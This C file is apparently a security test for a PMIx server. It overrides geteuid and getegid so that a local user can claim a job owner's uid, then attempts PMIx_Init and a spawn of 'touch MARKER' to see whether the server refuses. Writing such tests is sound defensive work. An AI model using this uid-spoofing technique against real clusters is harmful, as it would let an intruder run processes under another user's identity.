/* Another local user posing as a job's owner to its PMIx server (a security test, run as
 * `nobody` by tests/integration/test_pmix_peer_guard.py with a rank's PMIX_* environment).
 * libpmix's "native" security over TCP takes the uid and gid the client says it has: this
 * program says what SPOOF_UID / SPOOF_GID hold (its own geteuid/getegid, which libpmix calls
 * in place of libc's), then tries what such an intruder would: PMIx_Init, and PMIx_Spawn of
 * `touch MARKER` as the job's owner.
 * Prints "init refused" (exit 0 = the server held) or "init ok" and "spawn ok|refused" (exit 2). */
#include <pmix.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

uid_t geteuid(void) { return (uid_t)atoi(getenv("SPOOF_UID") ? getenv("SPOOF_UID") : "0"); }
gid_t getegid(void) { return (gid_t)atoi(getenv("SPOOF_GID") ? getenv("SPOOF_GID") : "0"); }

int main(int argc, char** argv) {
  if (argc < 2) {
    fprintf(stderr, "usage: pmix_spoof MARKER\n");
    return 64;
  }
  pmix_proc_t me;
  pmix_status_t rc = PMIx_Init(&me, NULL, 0);
  if (rc != PMIX_SUCCESS) {
    printf("init refused: %s\n", PMIx_Error_string(rc));
    return 0;
  }
  printf("init ok as %s.%u\n", me.nspace, me.rank);
  pmix_app_t app;
  PMIX_APP_CONSTRUCT(&app);
  app.cmd = strdup("/usr/bin/touch");
  app.argv = (char**)calloc(3, sizeof(char*));
  app.argv[0] = strdup("touch");
  app.argv[1] = strdup(argv[1]);
  app.maxprocs = 1;
  char nspace[PMIX_MAX_NSLEN + 1];
  rc = PMIx_Spawn(NULL, 0, &app, 1, nspace);
  printf("spawn %s\n", rc == PMIX_SUCCESS ? "ok" : "refused");
  PMIx_Finalize(NULL, 0);
  return 2;
}
